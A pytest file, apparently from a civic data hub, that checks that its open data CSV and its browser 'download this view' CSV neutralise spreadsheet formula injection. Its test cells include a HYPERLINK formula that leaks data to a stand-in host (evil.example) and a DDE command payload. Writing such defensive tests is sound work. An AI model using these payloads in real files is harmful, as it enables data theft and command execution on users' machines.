"""Spreadsheet formulas (OWASP, "CSV Injection"): every CSV the hub writes neutralises a cell a
spreadsheet would run as a formula, with one rule in two places: the open data CSV
(partdem/outputs/opendata.py, safe_cell) and the "download this view" CSV of the list pages
(docs/assets/hub/filters.js, csvCell), both tested here on the same cells.

The rule: a cell whose first character, after any spaces, is =, +, - or @ (or one of their
full-width forms), or that starts with a tab or a carriage return, gets a leading apostrophe. No
number the hub publishes is negative, so no real figure loses its sign.
"""

from __future__ import annotations

import csv
import io
import json
from html import escape
from pathlib import Path

import pytest
from hostile import ROOT

from partdem.outputs.opendata import to_csv
from partdem.testing.localsite import serving

# (the text of a cell, the cell as a spreadsheet must receive it): the same for both CSVs.
CELLS = [
    ('=HYPERLINK("https://evil.example/?leak="&A1,"Report")',
     '\'=HYPERLINK("https://evil.example/?leak="&A1,"Report")'),
    ("=1+1", "'=1+1"),
    ("+1+1", "'+1+1"),
    ("-1+1", "'-1+1"),
    ("-2", "'-2"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("\uff1d1+1", "'\uff1d1+1"),  # full-width =
    ("\uff0b1", "'\uff0b1"),  # full-width +
    ("\uff0d1", "'\uff0d1"),  # full-width -
    ("\uff201", "'\uff201"),  # full-width @
    # What must not change: text, figures, dates, and signs that do not start the cell.
    ("Riverside Climate Assembly", "Riverside Climate Assembly"),
    ("120000", "120000"),
    ("36.5", "36.5"),
    ("2021-03-06", "2021-03-06"),
    ("a=b", "a=b"),
    ("e-mail, phone +44", "e-mail, phone +44"),
    ("'quoted'", "'quoted'"),
    ("", ""),
]
# Where the two differ, by design: the page's cells are read as a reader sees them (spaces
# collapsed and trimmed), the open data keeps its text as it is.
OPEN_DATA_ONLY = [
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("\tindented", "'\tindented"),
    ("\rx", "'\rx"), (" =1+1", "' =1+1"), ("\u00a0\u00a0@x", "'\u00a0\u00a0@x"),
    ("\n-1", "'\n-1"),
]
PAGE_ONLY = [("\t=1+1", "'=1+1"), ("  +1  ", "'+1"), ("\n\n-1", "'-1"), ("\tindented", "indented")]


def open_data_cells(texts: list[str]) -> list[str]:
    """The title cells of the open data CSV of records with these titles, as read back."""
    rows = [{"id": f"r{i}", "title": text} for i, text in enumerate(texts)]
    return [row["title"] for row in csv.DictReader(io.StringIO(to_csv(rows), newline=""))]


def test_open_data_csv():
    cells = CELLS + OPEN_DATA_ONLY
    assert open_data_cells([text for text, _ in cells]) == [cell for _, cell in cells]


def test_open_data_csv_lists_and_nested_fields():
    rows = [{"id": "r", "topics": ["=1+1", "climate"],
             "budget": {"amount": "-1", "currency": "EUR"},
             "links": [{"title": "@x", "url": "https://example.org/"}]}]
    row = next(csv.DictReader(io.StringIO(to_csv(rows), newline="")))
    assert row == {"id": "r", "topics": "'=1+1; climate", "budget.amount": "'-1",
                   "budget.currency": "EUR", "links.1.title": "'@x",
                   "links.1.url": "https://example.org/"}


def page(texts: list[str]) -> str:
    """A list page as the hub writes one: a filter box over a table of rows, one cell each."""
    config = {"file": "view", "facets": {},
              "texts": {"filters": "Filters", "search": "Search", "reset": "Reset",
                        "download": "Download this view", "all": "All",
                        "shown": "%(shown)s of %(total)s"}}
    rows = "".join(f"<tr data-pd-item><td>{escape(text)}</td></tr>" for text in texts)
    return ('<!doctype html><html lang="en"><head><meta charset="utf-8"><title>CSV</title></head>'
            '<body><div class="pd-filters" id="box" data-target="list" hidden>'
            f'<script type="application/json">{json.dumps(config)}</script></div>'
            f'<table id="list"><thead><tr><th>=Title</th></tr></thead><tbody>{rows}</tbody>'
            '</table><script src="filters.js"></script></body></html>')


@pytest.mark.browser
def test_download_this_view_csv(browser, tmp_path):
    cells = CELLS + PAGE_ONLY
    (tmp_path / "filters.js").write_bytes(
        (ROOT / "docs" / "assets" / "hub" / "filters.js").read_bytes())
    (tmp_path / "index.html").write_text(page([text for text, _ in cells]), encoding="utf-8")
    context = browser.new_context(accept_downloads=True)
    tab = context.new_page()
    with serving(tmp_path) as server:
        tab.goto(server + "index.html")
        with tab.expect_download() as download:
            tab.click(".pd-filters__download")
        text = Path(download.value.path()).read_text(encoding="utf-8")
    context.close()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["'=Title"]  # the header row too
    assert [row[0] if row else "" for row in rows[1:]] == [cell for _, cell in cells]
